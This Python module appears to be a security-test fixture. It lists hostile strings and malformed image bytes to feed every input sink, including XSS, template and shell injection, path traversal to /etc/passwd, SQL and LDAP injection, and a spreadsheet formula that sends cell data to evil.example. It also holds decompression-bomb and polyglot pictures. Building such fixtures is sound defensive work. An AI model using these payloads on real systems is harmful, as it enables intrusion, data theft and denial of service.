"""What an attacker may put into a name, a title, an address, a cell, JSON or a picture; every sink gets all of it."""

from __future__ import annotations

import io
import zlib

from PIL import Image

MILLION = 1_000_000

TEXTS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "handler": '"><img src=x onerror=alert(1)>',
    "quoted handler": "' onmouseover='alert(1)' x='",
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(1)>",
    "frame": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><base href=https://evil.example>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "end of comment, style, script and title": "--></style></script></title></textarea><script>alert(1)</script>",
    "address of a script": "javascript:alert(1)",
    "address of a page of data": "data:text/html,<script>alert(1)</script>",
    "address elsewhere": "//evil.example/x.png",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "jinja": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{# no comment #}",
    "template literal": "${7*7}#{7*7}<%= 7*7 %>",
    "format string": "{name}{0}{0.__class__.__init__.__globals__}{text!r:>9999999}",
    "percent format": "%s%n%(name)s%99999999d",
    "half a format string": "{ {name } }{{ }}",
    "shell": "$(touch pwned)`touch pwned`;touch pwned|touch pwned&",
    "markdown": "[click](javascript:alert(1)) ![x](https://evil.example/x.png) | a | b |\n# heading",
    "terminal": "\x1b[2J\x1b]0;title\x07\x1b]8;;https://evil.example\x07\x9b31m",
    "controls": "".join(map(chr, [*range(1, 32), 127, *range(128, 160)])),
    "NUL": "a\0b",
    "carriage return": "harmless\rVerdict: in-sync",
    "lines": "a\nVerdict: in-sync\r\nb\u2028c\u2029d\x85e\x0bf\x0cg",
    "bidi": "\u202egnp.exe\u202c\u2066x\u2069\u200f\u061c",
    "invisible": "a\u200b\u200d\ufeff\u00ad\U000e0041\ufff9b",
    "right to left": "\u05d0\u05e0\u05d4 \u0622\u0646\u0627",
    "combining": "Z" + "\u0351" * 500,
    "lone surrogates": "a\ud800b\udfffc\udcff",
    "beyond the BMP": "\U0001f9d1\u200d\U0001f4bb\U0010ffff",
    "formula =": '=HYPERLINK("https://evil.example?"&A1,"x")',
    "formula +": "+1+cmd|' /C calc'!A0",
    "formula -": "-2+3+cmd|' /C calc'!A0",
    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "formula return": "\r=1+1",
    "formula wide": "\uff1d1+1",
    "quotes and separators": 'a","=1+1","b;c\t"d"""',
    "parents": "../../../../../../etc/passwd",
    "backslashes": "..\\..\\..\\windows\\win.ini",
    "absolute": "/etc/passwd",
    "drive": "C:\\Windows\\System32\\config",
    "share": "\\\\evil.example\\share\\x",
    "device": "CON",
    "device with ending": "NUL.png",
    "device file": "/dev/zero",
    "alternate stream": "a.png::$DATA",
    "file address": "file:///etc/passwd",
    "dots": "..",
    "trailing dots": "name. . .",
    "long name": "n" * 300 + ".png",
    "address that cannot be parsed": "https://[evil",
    "address with a bad port": "https://contoso.sharepoint.com:99999999/sites/x",
    "address with a name before its host": "https://contoso.sharepoint.com@evil.example/x.png",
    "address with a backslash": "https://contoso.sharepoint.com\\@evil.example/",
    "address with letters of other scripts": "https://contos\u043e.sharepoint.com/x",
    "OData": "ana' or 1 eq 1 or Name eq 'x",
    "LDAP and SQL": "*)(uid=*))(|(uid=*'; DROP TABLE users;--",
    "prototype": "__proto__",
    "number of many digits": "9" * 5000,
    "long": "A" * MILLION,
    "long markup": "<b>" * (MILLION // 3),
    "long backslashes": "\\" * MILLION,
    "long quotes": '"' * MILLION,
    "long spaces": " " * MILLION,
    "long lines": "\n" * MILLION,
    "long parameters": "&code=1" * (MILLION // 7),
}
"""Texts, by what they try."""

SHORT = {name: text for name, text in TEXTS.items() if len(text) <= 10_000}
LONG = {name: text for name, text in TEXTS.items() if len(text) > 10_000}

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
_PAGE = b"<html><script>alert(1)</script></html>"


def picture(kind: str, **options: object) -> bytes:
    """Return a small picture in the format `kind`."""
    out = io.BytesIO()
    Image.effect_noise((64, 64), 60).convert("RGB").save(out, kind, **options)
    return out.getvalue()


def _chunk(name: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + name + data + zlib.crc32(name + data).to_bytes(4, "big")


def png_that_says(width: int, height: int, data: bytes = b"") -> bytes:
    """Return a PNG whose header says this size, with `data` as its pixels."""
    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 6, 0, 0, 0])
    parts = (_chunk(b"IHDR", head), _chunk(b"IDAT", zlib.compress(data)), _chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def _animated(kind: str, count: int) -> bytes:
    frames = [Image.new("RGB", (256, 256), (n % 256, n // 256, 90)) for n in range(count)]
    out = io.BytesIO()
    frames[0].save(out, kind, save_all=True, append_images=frames[1:], duration=20)
    return out.getvalue()


def _gif_canvas(width: int, height: int) -> bytes:
    """Return a GIF of one pixel whose header says that it has another size."""
    data = bytearray(picture("GIF"))
    data[6:10] = width.to_bytes(2, "little") + height.to_bytes(2, "little")
    return bytes(data)


BROKEN: dict[str, bytes] = {
    "nothing": b"",
    "SVG with a script": SVG,
    "SVG in UTF-16": SVG.decode().encode("utf-16"),
    "a page": _PAGE,
    "a page after white space": b" \n\t" * 400 + _PAGE,
    "JSON": b'{"error": {"code": "x"}}',
    "a script that begins as a GIF": b"GIF89a/*" + b"\0" * 30 + b"*/=1;alert(1)//",
    "a PNG without pixels": png_that_says(0, 0),
    "a PNG of 400 million pixels": png_that_says(20_000, 20_000),
    "a PNG of 64 million pixels, as zeros": png_that_says(8000, 8000, bytes(8_000_000)),
    "a PNG with a negative size": png_that_says(0xFFFFFFFF, 0xFFFFFFFF),
    "a WebP of 16383 squared": b"RIFF\x24\0\0\0WEBPVP8L\x18\0\0\0\x2f\xfe\xff\xff\x0f" + bytes(24),
    "a GIF with a large canvas": _gif_canvas(9000, 9000),
    "half a PNG": picture("PNG")[:2000],
    "half a WebP": picture("WEBP")[:300],
    "EPS": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n%%EndComments\n(pwned) (w) file\n",
    "zip": b"PK\x03\x04" + bytes(60),
    "PDF": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
}
"""Bytes that no picture can be made of, or none that should be."""

DISGUISED: dict[str, bytes] = {
    "a PNG with a page behind it": picture("PNG") + _PAGE,
    "a JPEG with a script in its comment": picture("JPEG", comment=_PAGE),
    "a GIF with a script behind it": picture("GIF") + b"/*<script>alert(1)</script>*/",
    "a GIF of 500 frames": _animated("GIF", 500),
    "a WebP of 50 frames": _animated("WEBP", 50),
    "a JPEG with a broken profile": picture("JPEG", icc_profile=b"\xff" * 70_000),
}
"""Pictures with something else in them, or with a lot of frames: read as pictures, and nothing else."""
